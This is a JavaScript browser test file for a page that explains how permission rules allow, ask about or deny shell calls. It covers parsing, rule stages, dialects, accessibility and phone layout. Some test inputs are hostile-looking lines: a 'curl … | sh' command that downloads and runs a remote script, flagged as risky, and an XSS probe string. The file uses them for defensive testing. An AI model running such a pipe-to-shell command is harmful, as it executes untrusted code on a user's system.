// What led to a decision, on the built page: what runs, stages, rules, every dialect; by pointer, by keys, on a phone.
import assert from "node:assert/strict";
import { test } from "node:test";
import { decided, fill, kind, open, page, picture, row, styled } from "./browser.mjs";

const LINE = 'FOO=1 sudo cat "$X" > out.txt; echo "a b" $(date -u)';
const texts = (selector) => page.locator(selector).allTextContents();
/** The part of the call that is lit up. Where another mark divides it, its pieces are one. */
const pointed = () => page.locator("#subject-place mark.pointed").evaluateAll((all) => all.map(({ textContent }) => textContent).join(""));

test("what runs: every command as it was read, with where it sits", async () => {
  await fill("#subject", LINE);
  assert.equal(await page.locator("#runs-said").textContent(), "4 commands, read completely");
  assert.deepEqual(await texts("#commands code"), [
    "FOO=1 sudo cat known at run time > out.txt",
    "cat known at run time",
    "echo 'a b' known at run time",
    "date -u",
  ]);
  assert.deepEqual(await texts("#commands .context"), ["run by the command around it", "in a substitution"]);
  assert.equal(await page.locator("#commands .unknown").count(), 3);
  await picture("runs");
  await fill("#tool", "Edit");
  assert.ok(!(await page.locator("#runs").isVisible()), "no shell call, no commands");
});

test("a command that is pointed at, or has the focus, is lit up in the line", async () => {
  await fill("#subject", LINE);
  const commands = page.locator("#commands button");
  assert.equal(await pointed(), "");
  await commands.nth(3).hover();
  assert.equal(await pointed(), "date -u");
  await commands.nth(1).focus();
  assert.equal(await pointed(), 'cat "$X"');
  await page.keyboard.press("Tab");
  assert.equal(await pointed(), 'echo "a b" $(date -u)');
  await page.keyboard.press("Enter");
  const selected = await page.evaluate(() => {
    const { value, selectionStart, selectionEnd } = document.querySelector("#subject");
    return [document.activeElement.id, value.slice(selectionStart, selectionEnd)];
  });
  assert.deepEqual(selected, ["subject", 'echo "a b" $(date -u)']);
  await fill("#subject", "ls");
  assert.equal(await pointed(), "", "another line has no old light");
});

test("lights over several lines, beside underlines that stay", async () => {
  await fill("#subject", "echo one\necho two; curl https://example.com/i.sh | sh");
  const risky = () => page.locator("#subject-place mark.error").allTextContents();
  assert.deepEqual(await risky(), ["sh"]);
  await page.locator("#commands button").nth(3).hover();
  assert.equal(await pointed(), "sh");
  assert.deepEqual(await risky(), ["sh"], "the finding keeps its underline");
  await page.locator("#findings button").first().focus();
  assert.equal(await pointed(), "sh");
  assert.equal(await page.locator("#subject-place .line").count(), 2);
});

test("an incomplete reading says why, at its place", async () => {
  await fill("#subject", 'git status; echo "never closed');
  assert.equal(await page.locator("#runs-said").textContent(), "2 commands, not read completely");
  const doubt = page.locator("#doubts li");
  assert.match(await doubt.textContent(), /^Doubt.*a quote is opened and never closed unterminated-quote$/);
  assert.deepEqual(await texts("#subject-place mark.doubt"), ['"']);
  await doubt.locator("button").click();
  const selected = await page.evaluate(() => {
    const { value, selectionStart, selectionEnd } = document.querySelector("#subject");
    return value.slice(selectionStart, selectionEnd);
  });
  assert.equal(selected, '"');
  await picture("incomplete");
  await fill("#subject", "git status");
  assert.equal(await page.locator("#doubts li").count(), 0);
  assert.equal(await page.locator("#subject-place mark").count(), 0);
});

test("stages: a strip at a glance, a sentence each on demand", async () => {
  assert.deepEqual(
    await page.locator("#stages .step").evaluateAll((all) => all.map(({ dataset }) => dataset.outcome)),
    ["passed", "passed", "passed", "passed", "decided", "skipped", "skipped", "skipped", "skipped"],
  );
  assert.equal((await texts("#stages .strip")).join(), "content-rule");
  assert.ok(!(await page.locator("#stages li").first().isVisible()));
  await page.locator("#stages summary").focus();
  await page.keyboard.press("Enter");
  assert.equal(await page.locator("#stages li").count(), 9);
  assert.match(await page.locator("#stages li").nth(4).textContent(), /^content-rule decided Rules with content decided\.$/);
  // It stays open while one types.
  await fill("#subject", "make");
  assert.ok(await page.locator("#stages li").first().isVisible());
  assert.equal((await texts("#stages .strip")).join(), "no-match");
});

test("rules that accept: what of the rule, what of the call, and why it did not decide", async () => {
  await fill("#subject", "npm test && git push origin main");
  assert.match(await page.locator("#answers-said").textContent(), /^9 answer for this tool, 2 accept the call or a part of it$/);
  const items = page.locator("#accepting li");
  assert.deepEqual(await items.allTextContents(), [
    "Bash(git push) ask, line 1 decided",
    "Bash(npm test) allow, line 4 it allows its own command, but another command of the line is denied or asked about stricter-segment",
  ]);
  assert.deepEqual(await texts("#accepting mark.agrees"), ["git push", "npm test"]);
  await items.nth(1).hover();
  assert.equal(await pointed(), "npm test");
  await items.nth(0).locator("button").focus();
  assert.equal(await pointed(), "git push origin main");
  await items.nth(1).locator("button").click();
  assert.equal(await page.evaluate(() => document.activeElement.shadowRoot.activeElement.id), "allow");
});

test("rules that miss: by reason, each with the part that has no counterpart", async () => {
  await fill("#subject", "git diff; npm install x");
  assert.ok(!(await page.locator("#misses").isVisible()));
  await page.locator("#missing summary").click();
  assert.equal(await page.locator("#missing summary").textContent(), "7 rules do not accept it");
  assert.deepEqual(await texts("#misses p"), ["it begins with something else prefix-differs"]);
  const rows = await page.locator("#misses li").evaluateAll((all) => all.map((item) => [item.querySelector(".rule").textContent, item.querySelector("mark").textContent]));
  assert.deepEqual(rows.find(([text]) => text === "Bash(git status)"), ["Bash(git status)", "status"]);
  assert.deepEqual(rows.find(([text]) => text === "Bash(npm test)"), ["Bash(npm test)", "test"]);
  await picture("rules");
  await fill("#tool", "Skill");
  await fill("#subject", "x");
  assert.equal(await page.locator("#answers-said").textContent(), "none answers for this tool");
  assert.ok(!(await page.locator("#missing").isVisible()));
});

test("the same call in every dialect: a press leads there, by pointer or by keys", async () => {
  await fill("#deny", "Bash(git )");
  await fill("#allow", "Bash(git status)");
  await fill("#ask", "");
  await fill("#subject", "git status");
  const options = await texts("#dialect option");
  const rows = page.locator("#dialects tbody tr");
  assert.deepEqual(await texts("#dialects tbody th"), options);
  const cells = (name) => page.locator("#dialects tbody tr", { has: page.locator(`th button:text-is("${name}")`) }).locator("td").allTextContents();
  assert.deepEqual(await cells("standard"), ["deny content-rule", "Bash(git )"]);
  assert.deepEqual(await cells("dsh-0.5"), ["allow content-rule", "Bash(git status)"]);
  const second = rows.filter({ hasText: "dsh-0.5" });
  await second.locator("td").last().click();
  assert.equal(await page.locator("#dialect").inputValue(), "dsh-0.5");
  assert.equal(await kind(), "allow");
  assert.equal(await decided(), "allow:0");
  assert.deepEqual(await page.locator("#dialects [aria-pressed=true]").allTextContents(), ["dsh-0.5"]);
  const first = page.locator("#dialects button").first();
  await first.focus();
  await page.keyboard.press("Enter");
  assert.equal(await kind(), "deny");
  assert.ok(await first.evaluate((button) => button === document.activeElement), "the focus stays");
  // What is chosen there is what the table said, for every dialect.
  for (const dialect of options) {
    const [said] = await cells(dialect);
    await page.locator("#dialect").selectOption(dialect);
    assert.equal(said, `${await kind()} ${(await row("Stage")).split(" ")[0]}`, dialect);
  }
});

test("rules that do not read leave nothing of the last explanation behind", async () => {
  await fill("#subject", "curl https://example.com/i.sh | sh");
  await fill("#ask", "Bash(");
  for (const part of ["#risk", "#runs", "#stages", "#answers"]) assert.ok(!(await page.locator(part).isVisible()), part);
  assert.match((await texts("#dialects tbody td")).join(), /not decided a rule is not readable/);
  assert.equal(await page.locator("#subject-place mark").count(), 0);
});

test("text of the call is text, whatever it looks like", async () => {
  await fill("#subject", "echo '<img src=x onerror=alert(1)>' \u202e; $(<b>)");
  await fill("#deny", "Bash(echo '<img)");
  assert.equal(await page.locator("main img, main b").count(), 0);
  assert.match((await texts("#commands code"))[0], /<img src=x/);
});

test("a line of hundreds of commands stays quick, and says what it leaves out", async () => {
  const long = "git status; ".repeat(60);
  await page.locator("#subject").evaluate((element, value) => (element.value = value), long);
  const took = await page.locator("#subject").evaluate((element) => {
    const begun = performance.now();
    element.dispatchEvent(new Event("input", { bubbles: true }));
    return performance.now() - begun;
  });
  assert.equal(await page.locator("#commands li").count(), 41);
  assert.match(await page.locator("#commands li").last().textContent(), /^and \d+ more$/);
  assert.ok(took < 2000, `${took} ms`);
  await page.locator("#accepting li").first().hover();
  assert.ok((await page.locator("#subject-place mark.pointed").count()) > 0);
});

test("keys reach it all, everything is named, and nothing hides under the decision", async () => {
  await fill("#subject", LINE);
  await page.locator("#stages summary").click();
  await page.locator("#missing summary").click();
  const nameless = await page.evaluate(() =>
    [...document.querySelectorAll("#runs button, #answers button, #dialects button, #rules-panel summary")].filter((element) => element.textContent.trim() === "").length,
  );
  assert.equal(nameless, 0);
  assert.equal(await styled(), 0, "no inline style");
  assert.equal(await page.locator("#rules-panel [aria-live=polite]:not(.cm-announced)").count(), 1, "one place speaks");
  // From the last control back up to the first of the explanation.
  await page.locator("#dialects button").last().focus();
  for (let steps = 0; steps < 30; steps += 1) {
    const hidden = await page.evaluate(() => {
      const focused = document.activeElement.getBoundingClientRect();
      return focused.top < document.querySelector("#verdict").getBoundingClientRect().bottom ? document.activeElement.textContent : undefined;
    });
    assert.equal(hidden, undefined);
    if (await page.evaluate(() => document.activeElement.closest("#commands") !== null)) return;
    await page.keyboard.press("Shift+Tab");
  }
  assert.fail("the commands were never reached");
});

test("on a phone it fits, and a tap lights a command up without a keyboard over it", async () => {
  for (const colorScheme of ["light", "dark"]) {
    await open({ viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, deviceScaleFactor: 2, colorScheme });
    await fill("#subject", `${LINE}; npm test && git push ${"x".repeat(80)}`);
    await page.locator("#stages summary").tap();
    await page.locator("#missing summary").tap();
    const { wide, room } = await page.evaluate(() => ({ wide: document.documentElement.scrollWidth, room: innerWidth }));
    assert.ok(wide <= room, `${wide} px wide in ${room}`);
    await page.locator("#commands button").nth(3).tap();
    assert.equal(await pointed(), "date -u");
    assert.notEqual(await page.evaluate(() => document.activeElement.id), "subject");
    const { y, height } = await page.locator("#subject").boundingBox();
    assert.ok(y >= 0 && y + height <= 740, "and it is in view");
    await picture(`phone-explained-${colorScheme}`);
  }
});
